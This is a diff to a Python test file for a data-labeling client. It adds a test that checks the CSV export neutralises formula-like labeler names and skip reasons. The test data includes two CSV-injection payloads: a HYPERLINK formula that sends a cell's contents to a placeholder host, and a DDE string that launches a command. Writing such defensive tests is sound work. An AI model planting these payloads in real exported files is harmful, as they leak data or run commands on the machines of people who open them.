@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import csv
 import json
 import os
 import re
@@ -15,7 +16,7 @@ import matplotlib.image
 import numpy as np
 import pytest
 
-from leadline.client import Client, LocalServer
+from leadline.client import Client, LocalServer, Skip
 from leadline.client.export import read_draws_csv
 from leadline.v1 import leadline_pb2
 
@@ -155,6 +156,41 @@ def test_export_round_trips_the_draws_and_their_losses(
     predicted = labeled_digits.probabilities[rows].argmax(axis=1)
     expected_loss = (predicted != labeled_digits.labels[rows]).astype(float)
     np.testing.assert_array_equal([d.loss for d in labeled], expected_loss)
+
+
+def test_export_writes_labeler_names_and_skip_reasons_as_text_not_formulas(
+    server: LocalServer, admin: Client, tmp_path: Path
+) -> None:
+    """A vendor names itself and its skip reasons like spreadsheet formulas (OWASP "CSV
+    Injection" examples); the exported cells start with ' and read back unchanged."""
+    data = digits_pool("formulas")
+    admin.create_pool(
+        data.pool, task="classification", num_classes=10, feature_dim=64, loss="zero-one"
+    )
+    admin.ingest(data.pool, data.item_ids[:20], data.features[:20], data.probabilities[:20])
+    labeler = '=HYPERLINK("http://example.invalid/?leak="&A1,"open")'
+    reason = "=cmd|' /C calc'!A0"
+    held = admin.acquire(data.pool, 2, labeler=labeler)
+    admin.submit_labels(data.pool, {held[0].assignment_id: Skip(reason)}, labeler=labeler)
+    out = tmp_path / "formulas.csv"
+    done = run_cli(
+        "export",
+        "--pool",
+        data.pool,
+        "--out",
+        str(out),
+        token=TOKENS["reader"],
+        target=server.target,
+    )
+    assert done.returncode == 0, done.stderr
+    with out.open(newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert {row["labeler"] for row in rows} == {"'" + labeler}
+    assert [row["skip_reason"] for row in rows if row["skip_reason"]] == ["'" + reason]
+    exported = read_draws_csv(out)
+    assert {d.labeler for d in exported} == {labeler}
+    assert [d.skip_reason for d in exported if d.skip_reason] == [reason]
+    admin.delete_pool(data.pool)
 
 
 def test_pool_create_list_show_delete(server: LocalServer) -> None:
